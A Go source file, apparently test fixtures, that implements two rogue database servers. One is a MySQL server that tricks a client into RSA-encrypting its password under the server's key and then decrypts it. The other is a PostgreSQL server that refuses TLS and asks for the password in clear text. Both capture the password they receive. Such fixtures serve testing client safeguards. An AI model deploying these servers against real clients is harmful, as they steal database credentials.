// Servers that ask for the password itself.

package hostile

import (
	"crypto/rsa"
	"crypto/sha1"
	"encoding/binary"
	"io"
	"net"
	"strings"
)

// challenge is the challenge of StealPassword's greeting.
const challenge = "abcdefghijklmnopqrst"

// StealPassword is a MySQL server without TLS. It requests the password encrypted with its own key,
// and sends the received password to got.
func StealPassword(c net.Conn, plugin string, public []byte, key *rsa.PrivateKey, got chan<- string) {
	m := mysqlTalk{talk{conn: c, note: func(Field) {}}, 0}
	if !m.greet() {
		return
	}
	if _, ok := m.read(); !ok {
		return
	}
	if !m.packet("switch", []byte("\xfe"+plugin+"\x00"+challenge+"\x00")) {
		return
	}
	if _, ok := m.read(); !ok {
		return
	}
	if plugin == "caching_sha2_password" {
		if !m.packet("full authentication", []byte{1, 4}) {
			return
		}
		asked, ok := m.read()
		if !ok {
			return
		}
		if len(asked) > 1 { // the client has requested the key
			decrypt(asked, key, got)
			return
		}
	}
	if !m.packet("key", append([]byte{1}, public...)) {
		return
	}
	if secret, ok := m.read(); ok {
		decrypt(secret, key, got)
	}
}

func decrypt(secret []byte, key *rsa.PrivateKey, got chan<- string) {
	plain, err := rsa.DecryptOAEP(sha1.New(), nil, key, secret, nil)
	if err != nil {
		return
	}
	for i := range plain {
		plain[i] ^= challenge[i%len(challenge)]
	}
	got <- strings.TrimRight(string(plain), "\x00")
}

// RequestPassword is a PostgreSQL server without TLS. It requests the password in clear text, and
// sends the received password to got.
func RequestPassword(c net.Conn, got chan<- string) {
	const request = 80877103 // the code of a request for TLS
	for {
		var head [8]byte
		if _, err := io.ReadFull(c, head[:]); err != nil {
			return
		}
		if binary.BigEndian.Uint32(head[4:]) != request {
			_, _ = io.CopyN(io.Discard, c, int64(binary.BigEndian.Uint32(head[:4]))-8)
			break
		}
		_, _ = c.Write([]byte{'N'})
	}
	_, _ = c.Write(Message('R', "\x00\x00\x00\x03"))
	var head [5]byte
	if _, err := io.ReadFull(c, head[:]); err != nil {
		return
	}
	body := make([]byte, binary.BigEndian.Uint32(head[1:])-4)
	if _, err := io.ReadFull(c, body); err == nil {
		got <- strings.TrimRight(string(body), "\x00")
	}
}
